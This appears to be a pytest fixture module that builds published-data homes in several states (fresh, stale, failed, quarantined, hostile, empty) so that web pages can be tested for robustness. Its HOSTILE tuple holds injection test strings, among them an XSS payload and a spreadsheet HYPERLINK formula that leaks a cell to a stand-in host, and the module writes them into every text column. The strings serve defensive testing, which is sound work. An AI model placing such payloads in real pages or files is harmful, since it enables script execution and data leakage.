"""Homes in every state a page may meet: fresh, one source stale, one failed, rows refused, hostile text, empty.

Made of the hand-written publishers, so they are there on every machine. A page must be calm in each of them; what
it says in each is for the page's own tests.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Mapping
from contextlib import ExitStack
from pathlib import Path

import duckdb
import pytest

from tests.homes import run_landscape
from tests.publishers import API, ARENA, ECI, PRICES, PROVIDERS, SMALL, Edition
from tests.replay_server import Answer, ReplayServer
from tests.shared_homes import share_home

FRESH_AT, STALE_AT = "2026-11-22T12:00:00Z", "2026-05-10T12:00:00Z"
# What a publisher, a registry or an uploader may write into any text field.
HOSTILE = (
    "<img src=x onerror=alert(1)>",
    '=HYPERLINK("http://example.org/?leak="&A1,"open")',
    "\u202eright-to-left\u2066 override",
    "long-" + "name" * 499,
    "**bold** [link](http://example.org) :red[red] $x^2$ `code` <b>b</b> {{7*7}} \\ %s\n# heading",
)
_PRICES_FRESH = {**PRICES, ("groq", "openai/gpt-oss-120b"): (0.1, 0.5)}


def make_fresh(folder: Path) -> Path:
    """Everything read yesterday, with two earlier moments."""
    return _replay(folder, dict.fromkeys(("epoch_eci", "lmarena", "models_dev", "hf_hub"), (STALE_AT, FRESH_AT)))


def make_stale(folder: Path) -> Path:
    """The Hub last read half a year ago, everything else yesterday."""
    moments = dict.fromkeys(("epoch_eci", "lmarena", "models_dev"), (STALE_AT, FRESH_AT))
    return _replay(folder, {**moments, "hf_hub": (STALE_AT,)})


def make_failed(folder: Path) -> Path:
    """Everything read, then a run in which the price list could not be."""
    home = make_fresh(folder)
    with ReplayServer() as server:
        Edition().serve(server)
        server.reply(API, Answer(b"gone", 404))
        done = run_landscape(home, "refresh", "models_dev", "--mirror", server.url)
    assert "models_dev: FAILED" in done.output, done.output
    return home


def make_quarantined(folder: Path) -> Path:
    """A price list of which one row was refused: its price is no number."""
    home = folder / "home"
    recordings = folder / "recordings"
    Edition().record(recordings, FRESH_AT)
    [listing] = recordings.glob("models_dev/*/*api.json*")
    catalogue = json.loads(listing.read_text())
    catalogue["groq"]["models"][SMALL]["cost"]["input"] = "cheap"
    listing.write_text(json.dumps(catalogue))
    _allow_counts(recordings)
    done = run_landscape(home, "refresh", "--from", recordings)
    assert "1 refused" in done.output, done.output
    return home


def _allow_counts(recordings: Path) -> None:
    """Let the Hub's counters leave this machine, as those of recorders with a licence do: else no page shows them."""
    manifest = recordings / "manifest.csv"
    manifest.write_text(manifest.read_text().replace(",none stated,no,", ",MIT,yes,"))


def make_empty(folder: Path) -> Path:
    """A home in which nothing was ever published."""
    home = folder / "home"
    home.mkdir(parents=True)
    return home


def make_hostile(folder: Path) -> Path:
    """Hostile text in every field that publishers fill, and in every name the registries give."""
    recordings, home = folder / "recordings", folder / "home"
    eci = {**ECI, **{word: (f"{140 + n}.5", "139.0", "151.0", *ECI["o4-mini"][3:]) for n, word in enumerate(HOSTILE)}}
    arena = {**ARENA, **{word: (1400.0 + n, 1390.0, 1410.0) for n, word in enumerate(HOSTILE)}}
    prices = {**_PRICES_FRESH, **{("groq", word): (0.1 + n, 0.2 + n) for n, word in enumerate(HOSTILE)}}
    for at in (STALE_AT, FRESH_AT):
        Edition(eci=eci, arena=arena, prices=prices).record(recordings, at)
    [catalogue] = recordings.glob(f"models_dev/{FRESH_AT.replace('-', '').replace(':', '')}/*api.json*")
    listed = json.loads(catalogue.read_text())
    for n, provider in enumerate(PROVIDERS):
        listed[provider]["name"] = HOSTILE[n % len(HOSTILE)]
    catalogue.write_text(json.dumps(listed))
    _allow_counts(recordings)
    done = run_landscape(home, "refresh", "--from", recordings)
    assert done.exit_code == 0, done.output
    _poison(home / "landscape.duckdb")
    return home


def _poison(published: Path) -> None:
    """Write hostile text over every text in the published file that is no key and no address of ours.

    Registries are ours, so no payload could do this; a page must not depend on it."""
    texts = {
        "main.models": ("name", "licence", "family", "region", "role"),
        "main.developers": ("name", "region"),
        "main.providers": ("name",),
        "main.benchmarks": ("name", "domain", "unit"),
        "main.sources": ("title", "publisher", "attribution", "caveats"),
        "main.licences": ("title", "asks"),
        "main.events": ("title", "kind", "models", "precision"),
        "main.model_names": ("config", "method", "rule"),
        "main.prices_history": ("seller", "provider_name", "tier"),
        "main.scores_history": ("config",),
        "marts.attribute_disagreements": ("name", "chosen_value", "why"),
        "marts.boards": ("name", "domain", "unit", "source", "publisher"),
        "marts.comparisons": ("name",),
        "marts.index_edition": ("name",),
        "marts.index_frontiers": ("name",),
        "marts.model_labels": ("name", "developer", "licence", "role"),
        "marts.measures_now": ("unit", "reason_absent", "told_by"),
        "marts.tracked_counts": ("name", "licence", "role"),
        "marts.tracked_newest": ("name", "licence", "role"),
        "marts.unresolved_names": ("name_raw",),
        "stored.payloads": ("name", "note", "origin"),
        "stored.prices": ("provider_name", "tier"),
        "stored.repos": ("author", "licence_raw", "relation", "pipeline_tag", "library_name"),
        "stored.model_attributes": ("value",),
        "stored.snapshots": ("refused",),
        "logs.run_sources": ("error",),
        "logs.runs": ("outcome",),
    }
    words = "[" + ", ".join(f"'{word.replace(chr(39), chr(39) * 2)}'" for word in HOSTILE) + "]"
    con = duckdb.connect(str(published))
    for relation, columns in texts.items():
        for place, column in enumerate(columns):
            # The tracked pair keep a role of none: a page asks for models without one.
            kept = " where role is not null" if column == "role" else ""
            con.execute(
                f"update {relation} set {column} = ({words})[1 + (rowid + {place}) % {len(HOSTILE)}] "
                f"|| case when {column} is null then '' else ' ' || (rowid % 97) end{kept}"
            )
    con.execute(f"update stored.repos set tags = {words}")
    con.execute(
        "insert into stored.quarantine select source_id, snapshot_id, payload_key, 0, observed_at, word, word "
        f"from stored.payloads, unnest({words}) as t(word)"
    )
    con.execute("checkpoint")
    con.close()


STATES: Mapping[str, Callable[[Path], Path]] = {
    "fresh": make_fresh,
    "stale": make_stale,
    "failed": make_failed,
    "quarantined": make_quarantined,
    "hostile": make_hostile,
    "empty": make_empty,
}


@pytest.fixture(scope="session")
def state_homes(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Callable[[str], Path]]:
    """The home of a state by name, made when first asked for; to read only."""

    def find(state: str) -> Path:
        def build(folder: Path) -> None:
            assert STATES[state](folder) == folder / "home"

        return shared.enter_context(share_home(tmp_path_factory, f"state_{state}", build)) / "home"

    with ExitStack() as shared:
        yield find


def _replay(folder: Path, moments: Mapping[str, tuple[str, ...]]) -> Path:
    """A home of recordings, each source at its own moments."""
    home, recordings = folder / "home", folder / "recordings"
    Edition().record(recordings, STALE_AT)
    Edition(prices=_PRICES_FRESH, arena_days=("2026-11-20",), downloads=5_000_000).record(recordings, FRESH_AT)
    manifest = recordings / "manifest.csv"
    header, *lines = manifest.read_text().splitlines()
    kept = [line for line in lines if any(at in line for at in moments[line.partition(",")[0]])]
    manifest.write_text("\n".join([header, *kept]) + "\n")
    _allow_counts(recordings)
    done = run_landscape(home, "refresh", "--from", recordings)
    assert done.exit_code == 0, done.output
    return home
